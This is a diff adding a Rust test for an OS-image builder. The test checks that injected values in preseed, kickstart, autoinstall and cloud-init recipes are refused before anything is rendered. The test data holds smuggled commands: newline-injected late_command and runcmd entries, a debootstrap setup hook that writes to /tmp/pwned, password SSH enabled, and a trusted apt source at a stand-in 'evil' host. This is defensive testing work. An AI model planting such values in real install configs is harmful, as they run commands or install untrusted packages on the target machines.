@@ -843,3 +843,92 @@ fn a_build_that_asks_for_glance_fails_at_once_without_credentials() {
     assert!(err.contains("--no-glance"), "{err}");
     assert!(!dir.path().join("out").exists(), "nothing may start");
 }
+
+/// The injections a review reproduced (issue 12): each is refused before anything is
+/// rendered, with its position, and the file is never written.
+#[test]
+fn values_that_would_break_out_of_their_file_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let fixtures = root().join("tests/fixtures/installer");
+    for f in ["vmlinuz", "initrd.gz"] {
+        std::fs::copy(fixtures.join(f), dir.path().join(f)).unwrap();
+    }
+    let fixture = |kind: &str, edit: &dyn Fn(String) -> String| {
+        let text = std::fs::read_to_string(fixtures.join(format!("{kind}.yaml"))).unwrap();
+        let edited = edit(text.clone());
+        assert_ne!(edited, text, "{kind}: the edit changed nothing");
+        let p = dir.path().join(format!("{kind}-bad.yaml"));
+        std::fs::write(&p, edited).unwrap();
+        p
+    };
+    let bootstrap = |name: &str, extra: &str| {
+        let p = dir.path().join(format!("{name}.yaml"));
+        std::fs::write(
+            &p,
+            format!("name: t\nelements: [cloud-init]\nsource:\n  bootstrap: {{distro: debian, {extra}}}\n"),
+        )
+        .unwrap();
+        p
+    };
+    let cases: Vec<(std::path::PathBuf, Vec<&str>, &str)> = vec![
+        (
+            fixture("preseed", &|t| {
+                t.replace(
+                    "full_name: Alice Example",
+                    "full_name: \"Alice\\nd-i preseed/late_command string in-target sh -c id\"",
+                )
+            }),
+            vec![],
+            "preseed-bad.yaml:13:",
+        ),
+        (
+            fixture("kickstart", &|t| t.replace("# Fixture", "# Through --var: fixture")),
+            vec!["--var", "hostname=rocky --bootproto=static --ip=10.9.9.9"],
+            "--var:1:1: hostname: `rocky --bootproto=static",
+        ),
+        (
+            fixture("autoinstall", &|t| {
+                t.replace("hostname: snaphost", "hostname: \"snaphost\\nruncmd: [id]\"")
+            }),
+            vec![],
+            "autoinstall-bad.yaml:4:",
+        ),
+        (
+            bootstrap(
+                "datasource",
+                "suite: bookworm, packages: []}\ncloud_init: {datasources: [\"None\\nssh_pwauth: true\"]",
+            ),
+            vec![],
+            "datasource.yaml:5:",
+        ),
+        (
+            bootstrap("suite", "suite: \"--setup-hook=id>/tmp/pwned\""),
+            vec![],
+            "suite.yaml:4:",
+        ),
+        (
+            bootstrap(
+                "mirror",
+                "suite: bookworm, mirror: \"http://deb.debian.org/debian\\ndeb [trusted=yes] http://evil/ x main\"",
+            ),
+            vec![],
+            "mirror.yaml:4:",
+        ),
+    ];
+    for (recipe, extra, want) in cases {
+        let mut args = vec!["plan", recipe.to_str().unwrap(), "--render-dir", "rendered"];
+        args.extend(extra);
+        let out = kiln_in(&args, dir.path());
+        let err = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{}: {err}", recipe.display());
+        assert!(
+            err.contains(want),
+            "{}: want {want:?} in:\n{err}",
+            recipe.display()
+        );
+        assert!(
+            !dir.path().join("rendered").exists(),
+            "rendered despite the error"
+        );
+    }
+}
